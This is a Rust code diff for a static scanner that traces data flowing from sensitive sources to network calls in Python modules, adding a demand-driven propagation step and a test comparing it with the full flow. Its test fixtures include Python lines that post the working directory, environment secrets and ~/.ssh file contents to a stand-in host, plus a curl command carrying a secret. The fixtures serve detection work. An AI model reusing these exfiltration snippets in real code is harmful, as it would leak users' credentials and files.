@@ -28,8 +28,10 @@
 //! of a function the member defines (its parameters) becomes an edge from an expression to a
 //! name, keyed by the innermost function's *name* (every function of one name shares its
 //! locals: imprecise, never quadratic) or the module. At most [`PASSES`] passes propagate the
-//! sources' kinds along the edges; each expression is read at most [`MAX_EXPR`] bytes, at most
-//! [`MAX_STATEMENTS`] statements, [`MAX_CALLS`] call sites and [`MAX_SINKS`] sinks are kept.
+//! sources' kinds along the edges the running sinks' arguments depend on (a demand-driven closure
+//! over (scope, name) keys: the same taint at those sinks as propagating every edge); each
+//! expression is read at most [`MAX_EXPR`] bytes, at most [`MAX_STATEMENTS`] statements,
+//! [`MAX_CALLS`] call sites and [`MAX_SINKS`] sinks are kept.
 //!
 //! Cheapest rejections first: a member without a source literal, then without a source in code
 //! (or a secret path in a string), is left before its sinks are searched and asked whether they
@@ -241,7 +243,7 @@ impl Detector for SourceToSink {
         if running.is_empty() {
             return;
         }
-        let flow = Flow::new(src, sources);
+        let flow = Flow::new(src, sources, &running);
         let mut reported = 0;
         for (offset, after_paren, kind) in running {
             if reported >= MAX_HITS_PER_FILE {
@@ -364,14 +366,21 @@ struct Flow<'s, 't> {
 }
 
 impl<'s, 't> Flow<'s, 't> {
-    /// The flow from `sources` (what [`sources`] found) and the network tools named in strings.
-    fn new(src: &'s Source<'t>, sources: Vec<(usize, u8)>) -> Self {
-        Self::with_filter(src, sources, WordFilter::default())
+    /// The flow from `sources` (what [`sources`] found) and the network tools named in strings,
+    /// propagated only along the edges what `sinks` send can depend on ([`Flow::demanded`]).
+    fn new(src: &'s Source<'t>, sources: Vec<(usize, u8)>, sinks: &[(usize, usize, SinkKind)]) -> Self {
+        Self::with_filter(src, sources, WordFilter::default(), Some(sinks))
     }
 
     /// [`Flow::new`] with `tainted` starting as given (tests: every word, so every identifier is
-    /// looked up).
-    fn with_filter(src: &'s Source<'t>, mut sources: Vec<(usize, u8)>, tainted: WordFilter) -> Self {
+    /// looked up), and with every edge propagated when `demand` is `None` (the full flow the
+    /// demand-driven one is tested against).
+    fn with_filter(
+        src: &'s Source<'t>,
+        mut sources: Vec<(usize, u8)>,
+        tainted: WordFilter,
+        demand: Option<&[(usize, usize, SinkKind)]>,
+    ) -> Self {
         let text = src.text;
         for m in NET_TOOL.find_iter(text) {
             if src.kind_at(m.start()) == Kind::Str {
@@ -385,7 +394,7 @@ impl<'s, 't> Flow<'s, 't> {
         let scope_starts: Vec<(usize, usize, &'t str)> =
             scopes.iter().filter(|s| s.def).map(|s| (s.body.0, s.body.1, &text[s.name.0..s.name.1])).collect();
         let mut flow = Flow { src, sources, reads, taint: HashMap::new(), tainted, scope_starts };
-        flow.propagate();
+        flow.propagate(demand);
         flow
     }
 
@@ -403,8 +412,9 @@ impl<'s, 't> Flow<'s, 't> {
         MODULE
     }
 
-    /// Reads statements once and propagates kinds along the edges, at most [`PASSES`] times.
-    fn propagate(&mut self) {
+    /// Reads statements once and propagates kinds along the edges, at most [`PASSES`] times: every
+    /// edge, or with `demand` only the edges [`Flow::demanded`] keeps (in the same order).
+    fn propagate(&mut self, demand: Option<&[(usize, usize, SinkKind)]>) {
         let src = self.src;
         let text = src.text;
         let defs: HashSet<&'t str> = self.scope_starts.iter().map(|&(_, _, n)| n).collect();
@@ -426,6 +436,11 @@ impl<'s, 't> Flow<'s, 't> {
                 }
             }
         }
+        if let Some(sinks) = demand {
+            let keep = self.demanded(&edges, sinks);
+            let mut k = keep.iter();
+            edges.retain(|_| k.next().copied().unwrap_or(false));
+        }
         for _ in 0..PASSES {
             let mut changed = false;
             for e in &edges {
@@ -446,6 +461,65 @@ impl<'s, 't> Flow<'s, 't> {
                 break;
             }
         }
+    }
+
+    /// Which edges what `sinks` send can depend on: the keys ((scope, name), as [`Flow::kinds`]
+    /// looks them up) read by the sinks' arguments, then, transitively, every edge writing such a
+    /// key and the keys its expression reads. A worklist over keys: each key and each edge is
+    /// taken once, each kept edge's expression read once more (linear in the edges).
+    ///
+    /// Why the taint the sinks read is the full flow's: a kept edge reads only kept keys, and an
+    /// edge not kept writes no kept key (else it would be kept). So in each pass, every kept edge
+    /// sees the same values as in the full flow, in the same order; and a pass that changes no
+    /// kept key leaves the next pass's kept edges the same inputs, so stopping there (the full
+    /// flow may go on for other keys) gives the same values. The sources and reads an expression
+    /// carries by its offsets do not depend on the taint.
+    fn demanded(&self, edges: &[Edge<'t>], sinks: &[(usize, usize, SinkKind)]) -> Vec<bool> {
+        let text = self.src.text;
+        let mut by_key: HashMap<(&'t str, &'t str), Vec<usize>> = HashMap::new();
+        // The words a key with an edge can be looked up by (as `tainted` in `kinds`): a word not
+        // in it names no key any edge writes, so it adds nothing to the closure.
+        let mut targets = WordFilter::default();
+        for (i, e) in edges.iter().enumerate() {
+            by_key.entry((e.scope, e.name)).or_default().push(i);
+            targets.insert(if e.name == RETURN { e.scope } else { e.name });
+        }
+        let mut keep = vec![false; edges.len()];
+        let mut seen: HashSet<(&'t str, &'t str)> = HashSet::new();
+        let mut work: Vec<(&'t str, &'t str)> = Vec::new();
+        let mut read = |start: usize, end: usize, scope: &'t str, work: &mut Vec<(&'t str, &'t str)>| {
+            let mut last = "";
+            for (s, e) in expr_words(text, start, end) {
+                let w = &text[s..e];
+                // The same word again (`g(g(g(…`) names the same keys.
+                if w == last || !targets.may_hold(w) {
+                    continue;
+                }
+                last = w;
+                for key in [(scope, w), (MODULE, w), (w, RETURN)] {
+                    if seen.insert(key) {
+                        work.push(key);
+                    }
+                }
+            }
+        };
+        for &(offset, after_paren, _) in sinks {
+            let args = pysrc::call_argument(text, after_paren, MAX_EXPR);
+            let scope = self.scope_at(offset);
+            for (s, e) in split_top_ranges(self.src, after_paren, after_paren + args.len()) {
+                read(s, e, scope, &mut work);
+            }
+        }
+        while let Some(key) = work.pop() {
+            for &i in by_key.get(&key).map_or(&[][..], |v| v.as_slice()) {
+                if !keep[i] {
+                    keep[i] = true;
+                    let e = &edges[i];
+                    read(e.expr.0, e.expr.1, e.from, &mut work);
+                }
+            }
+        }
+        keep
     }
 
     /// The edges one statement adds.
@@ -534,21 +608,11 @@ impl<'s, 't> Flow<'s, 't> {
             bits |= k;
         }
         let text = self.src.text;
-        let b = text.as_bytes();
-        let mut j = start;
-        while j < end {
-            if !is_ident(b[j]) || (j > 0 && (is_ident(b[j - 1]) || b[j - 1] == b'.')) {
-                j += 1;
-                continue;
-            }
-            let s = j;
-            while j < end && is_ident(b[j]) {
-                j += 1;
-            }
+        for (s, j) in expr_words(text, start, end) {
             let w = &text[s..j];
             // The filter first (most words carry nothing), the lookups, then whether the word
             // is code: the same bits as asking in the opposite order.
-            if b[s].is_ascii_digit() || !self.tainted.may_hold(w) {
+            if !self.tainted.may_hold(w) {
                 continue;
             }
             let mut found = 0;
@@ -618,6 +682,31 @@ impl<'s, 't> Flow<'s, 't> {
         }
         (bits != 0).then(|| describe(bits))
     }
+}
+
+/// The words [`Flow::kinds`] looks up in the code at `start..end` (read at most [`MAX_EXPR`]
+/// bytes, as it does): identifiers not after an identifier byte or a `.`, cut at the end, not
+/// starting with a digit. One definition for the lookups and for [`Flow::demanded`].
+fn expr_words(text: &str, start: usize, end: usize) -> impl Iterator<Item = (usize, usize)> + '_ {
+    let end = end.min(start + MAX_EXPR).min(text.len());
+    let b = text.as_bytes();
+    let mut j = start;
+    std::iter::from_fn(move || {
+        while j < end {
+            if !is_ident(b[j]) || (j > 0 && (is_ident(b[j - 1]) || b[j - 1] == b'.')) {
+                j += 1;
+                continue;
+            }
+            let s = j;
+            while j < end && is_ident(b[j]) {
+                j += 1;
+            }
+            if !b[s].is_ascii_digit() {
+                return Some((s, j));
+            }
+        }
+        None
+    })
 }
 
 /// Source occurrences in code or f-strings (a what-is-my-IP service also in a string) and secret
@@ -1178,7 +1267,7 @@ mod tests {
         if running.is_empty() || !SOURCE.is_match(text) && !FILE_LITERAL.is_match(text) {
             return Vec::new();
         }
-        let flow = Flow::with_filter(src, sources(src), WordFilter([u64::MAX; 64]));
+        let flow = Flow::with_filter(src, sources(src), WordFilter([u64::MAX; 64]), None);
         let mut out = Vec::new();
         for (offset, after_paren, kind) in running {
             if out.len() >= MAX_HITS_PER_FILE {
@@ -1309,6 +1398,49 @@ mod tests {
             reported += usize::from(!got.is_empty());
         }
         assert!(reported > 200, "the random texts report: {reported}");
+    }
+
+    #[test]
+    fn demand_driven_flow_is_the_whole_flow() {
+        // For every sink of a module (running or not), alone and all together: what the flow
+        // kept to the sinks' demand says each sends is what the full flow says.
+        let check = |name: &str, text: &str| {
+            let src = Source::python(text);
+            let sinks = find_sinks(&src);
+            let full = Flow::with_filter(&src, sources(&src), WordFilter::default(), None);
+            let want: Vec<Option<String>> = sinks.iter().map(|&(o, a, k)| full.sends(o, a, k)).collect();
+            let all = Flow::new(&src, sources(&src), &sinks);
+            let got: Vec<Option<String>> = sinks.iter().map(|&(o, a, k)| all.sends(o, a, k)).collect();
+            assert_eq!(got, want, "{name}: all sinks");
+            for (i, &(o, a, k)) in sinks.iter().enumerate() {
+                let one = Flow::new(&src, sources(&src), &[(o, a, k)]);
+                assert_eq!(one.sends(o, a, k), want[i], "{name}: sink at {o}");
+            }
+            want.iter().filter(|w| w.is_some()).count()
+        };
+        let cases = [
+            ("direct", "import os, requests\nrequests.post('https://c.example', data=os.getcwd())\n"),
+            ("a chain", "import os, requests\na = os.getcwd()\nb = a\nc = [b]\nrequests.post('https://c.example', data=c)\n"),
+            ("a chain longer than the passes, written backwards", "import os, requests\ndef f():\n    e = d\n    d = c\n    c = b\n    b = a\n    a = os.getcwd()\n    requests.post('https://c.example', data=e)\nf()\n"),
+            ("through a parameter and a return", "import os, requests\ndef info():\n    return os.getcwd()\ndef send(d):\n    requests.post('https://c.example', data=d)\nsend(info())\n"),
+            ("a module name read in a function", "import socket, requests\nH = socket.gethostname()\ndef f():\n    requests.post('https://c.example', data=H)\nf()\n"),
+            ("two functions of one name", "import os, requests\ndef f():\n    v = os.getlogin()\ndef f():\n    requests.post('https://c.example', data=v)\nf()\n"),
+            ("a container update", "import os, requests\nd = {}\nd['k'] = os.environ['K']\nx = []\nx.append(d)\nrequests.post('https://c.example', json=x)\n"),
+            ("for and with targets", "import os, requests\nfor n in os.listdir(os.path.expanduser('~/.ssh')):\n    with open(n) as fh:\n        requests.post('https://c.example', data=fh.read())\n"),
+            ("unrelated taint elsewhere", "import os, requests\nu = os.getcwd()\nv = 1\nrequests.post('https://c.example', data=v)\nrequests.post('https://c.example', data=u)\n"),
+            ("a name only in a string", "import os, requests\nv = os.getlogin()\nrequests.post('https://c.example', data='v')\n"),
+            ("a network tool through a name", "import os, subprocess\ncmd = ['curl', '-d']\nsubprocess.run(cmd + [os.environ['K']])\n"),
+        ];
+        let mut sending = 0;
+        for (name, text) in cases {
+            sending += check(name, text);
+        }
+        assert!(sending >= 8, "the named cases send: {sending}");
+        let mut sending = 0;
+        for text in pysrc::random_texts(PIECES, 40, 0x51d2_8a3b_c6e4_f097, 3000) {
+            sending += check(&text, &text);
+        }
+        assert!(sending > 500, "the random modules send: {sending}");
     }
 
     #[test]
